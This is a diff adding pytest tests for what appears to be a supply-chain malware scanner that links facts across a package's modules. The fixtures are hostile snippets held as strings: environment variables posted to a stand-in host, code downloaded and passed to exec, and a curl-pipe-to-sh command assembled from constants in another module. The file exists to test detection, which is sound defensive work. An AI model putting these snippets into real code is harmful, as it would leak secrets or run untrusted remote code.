@@ -1,0 +1,101 @@
+"""Modules of one package seen together: what one reads and another sends, what one decodes and another runs."""
+
+from __future__ import annotations
+
+from collections.abc import Iterable
+
+import pytest
+
+from mlsupply.evidence.facets import CodeFact
+from mlsupply.evidence.linking import linked
+from mlsupply.evidence.python import analyse
+from mlsupply.evidence.python.neighbours import Neighbours
+
+READS = "import os\ndef gather():\n    return dict(os.environ)\n"
+SENDS = "import requests\ndef push(data):\n    requests.post('https://in.example/p', json=data)\n"
+GETS = "import urllib.request\ndef get(url):\n    return urllib.request.urlopen(url).read()\n"
+
+
+def facts(files: dict[str, str], parsed: Iterable[str] = ()) -> list[CodeFact]:
+    """Of a package `demo`; parsed: the files the first look chooses, all where none is named."""
+    sources = {f"demo/{name}.py": text.encode() for name, text in files.items()}
+    chosen = [f"demo/{name}.py" for name in parsed] or list(sources)
+    spare = {analyse.dotted_name(path)[0]: path for path in sources if path not in chosen}
+
+    def look(todo: Iterable[tuple[str, Neighbours | None]]) -> list[analyse.ModuleFacts]:
+        return [analyse.module(path, sources[path], "", known) for path, known in todo]
+
+    first = [analyse.module(path, sources[path]) for path in chosen]
+    return [fact for module in linked(first, spare, sources, look) for fact, _ in module.facts]
+
+
+def sent(found: list[CodeFact]) -> list[tuple[str, str, str]]:
+    return [(fact.source, fact.sink, fact.destination) for fact in found if fact.behaviour == "sends"]
+
+
+STOLEN = [("environment", "requests.post", "fixed")]
+
+
+@pytest.mark.parametrize(
+    "start",
+    [
+        "from .read import gather\nfrom .send import push\npush(gather())\n",
+        "from . import read, send\nvalues = read.gather()\nsend.push({'v': values})\n",
+        "from demo.read import gather as g\nfrom demo.send import push as p\ndef go():\n    p(g())\ngo()\n",
+    ],
+    ids=["names", "modules", "aliases"],
+)
+def test_what_one_module_reads_and_another_sends(start: str) -> None:
+    assert sent(facts({"__init__": start, "read": READS, "send": SENDS})) == STOLEN
+
+
+def test_a_module_that_passes_all_byte_filters_is_read_when_a_neighbour_sends_for_it() -> None:
+    start = "from .read import gather\nfrom .send import push\npush(gather())\n"
+    assert sent(facts({"__init__": start, "read": READS, "send": SENDS}, parsed=["send"])) == STOLEN
+
+
+def test_a_name_that_is_exported_again_leads_to_the_same_function() -> None:
+    files = {
+        "__init__": "from .read import gather\n",
+        "read": READS,
+        "send": SENDS,
+        "late": "from demo import gather\nfrom demo.send import push\npush(gather())\n",
+    }
+    assert sent(facts(files)) == STOLEN
+
+
+def test_what_is_fetched_by_one_and_executed_by_another() -> None:
+    start = "from .net import get\nexec(get('https://x.example/s.py'))\n"
+    found = facts({"__init__": start, "net": GETS})
+    assert "runs-downloaded" in {fact.behaviour for fact in found}
+
+
+def test_a_command_put_together_from_constants_of_another_module() -> None:
+    start = "import os\nfrom .words import TOOL, REST\nos.system(TOOL + ' ' + REST)\n"
+    found = facts({"__init__": start, "words": "TOOL = 'curl -s'\nREST = 'https://x.example/i | sh'\n"}, parsed=["__init__"])
+    assert "runs-downloaded" in {fact.behaviour for fact in found}
+
+
+def test_a_file_whose_address_the_caller_gives_is_no_download_to_run() -> None:
+    """What a configured address gives is the user's business, as it is inside one module."""
+    start = "from .net import get\ndef load(address):\n    exec(get(address))\n"
+    found = facts({"__init__": start, "net": GETS})
+    assert "runs-downloaded" not in {fact.behaviour for fact in found}
+
+
+def test_an_honest_client_needs_no_second_look() -> None:
+    looks = []
+    files = {
+        "demo/__init__.py": b"from .client import Client\nfrom .config import URL\nClient(URL).post({'a': 1})\n",
+        "demo/config.py": b"URL = 'https://api.example/v1'\n",
+        "demo/client.py": b"import requests\nclass Client:\n    def __init__(self, url):\n        self.url = url\n"
+        b"    def post(self, data):\n        return requests.post(self.url, json=data).json()\n",
+    }
+
+    def look(todo: Iterable[tuple[str, Neighbours | None]]) -> list[analyse.ModuleFacts]:
+        todo = list(todo)
+        looks.extend(todo)
+        return [analyse.module(path, files[path], "", known) for path, known in todo]
+
+    linked([analyse.module(path, text) for path, text in files.items()], {}, files, look)
+    assert looks == []
